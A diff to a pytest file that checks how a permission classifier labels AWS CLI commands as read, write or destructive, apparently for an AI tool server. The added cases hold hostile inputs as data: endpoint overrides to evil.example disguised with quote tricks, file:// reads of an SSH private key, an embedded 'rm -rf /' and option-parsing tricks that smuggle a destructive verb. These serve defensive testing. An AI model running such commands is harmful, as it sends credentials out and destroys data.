@@ -966,12 +966,52 @@ AWS = classes.of_package("awslabs.aws-api-mcp-server")
         ("aws ec2 terminate-instances --instance-ids i-1", "destructive"),
         ("aws s3 rm s3://bucket --recursive", "destructive"),
         ("aws lambda delete-function --function-name list-things", "destructive"),
+        # What a model writes around a command that reads.
+        ("aws ec2 describe-instances --query 'Reservations[].Instances[?State.Name==`running`] | [0]'", "read"),
+        ('aws ec2 describe-instances --filters "Name=tag:Name,Values=a b" --output table', "read"),
+        ("aws ec2 describe-instances --filters Name=tag:Name,Values='a b' --query=\"[*].[A,B]\"", "read"),
+        ("aws ec2 describe-instances --region *", "read"),
+        (
+            "aws cloudwatch get-metric-statistics --start-time 2026-01-01T00:00:00Z --end-time 2026-01-02T00:00:00Z",
+            "read",
+        ),
+        ("aws sagemaker describe-endpoint --endpoint-name e", "read"),
+        ("aws sqs get-queue-attributes --queue-url https://sqs.eu-west-1.amazonaws.com/123/q", "read"),
+        # An option that takes the verb for its value, so that another one is executed.
+        ("aws --query list ec2 terminate-instances --instance-ids i-1", "destructive"),
+        ("aws --color list ec2 create-vpc", "write"),
+        ("aws --region --query list ec2 create-vpc", "write"),
+        ("aws --region=--query list ec2 create-vpc", "write"),
+        # Quotes that whoever splits the words takes away.
+        ('aws ec2 describe-instances "--endpoint-url" HTTP://evil.example', "write"),
+        ("aws ec2 describe-instances --endpo''int-url HTTP://evil.example", "write"),
+        ("aws ec2 describe-instances -'-endpoint-url' HTTP://evil.example", "write"),
+        ("aws ec2 describe-instances --e HTTP://evil.example", "write"),
+        ("aws ec2 describe-instances --endpoint-url=HTTP://evil.example", "write"),
+        ("aws ec2 describe-instances --ca /tmp/mine.pem", "write"),
+        ("aws ec2 describe-instances --filters 'file:''//home/u/.ssh/id_rsa'", "write"),
+        ("aws ec2 describe-instances --filters Name=x,Values@=file:///home/u/.ssh/id_rsa", "write"),
+        ("aws sqs get-queue-attributes --queue-url https://sqs.evil.example/q", "write"),
+        ("aws sqs get-queue-attributes --queue-url https://sqs.eu-west-1.amazonaws.com.evil.example/q", "write"),
+        ('aws ec2 describe-instances --filters "$(rm -rf /)"', "write"),
+        ("aws ec2 describe-instances 'a", "write"),
+        ("aws ec2 describe-instances\t--endpoint-url\tHTTP://evil.example", "write"),
     ],
 )
 def test_calls_of_the_aws_api_are_classed_by_their_verb(command: str, class_: str) -> None:
     found = classes.classes_of(AWS, "call_aws", {"cli_command": command})
     assert class_ in found
     assert ("read" in found) is (class_ == "read")
+
+
+@pytest.mark.timeout(20)
+@pytest.mark.parametrize(
+    "command",
+    ["aws x get-" + "token-" * 400_000, "aws x list " + "a='b " * 400_000, "aws x list" + " a=b=c" * 400_000 + "'"],
+)
+def test_a_command_of_megabytes_holds_up_no_other_call(command: str) -> None:
+    """A backtracking expression would take hours."""
+    assert "read" not in classes.classes_of(AWS, "call_aws", {"cli_command": command + ";"})
 
 
 def test_tools_that_are_classed_by_their_arguments_are_shown() -> None:
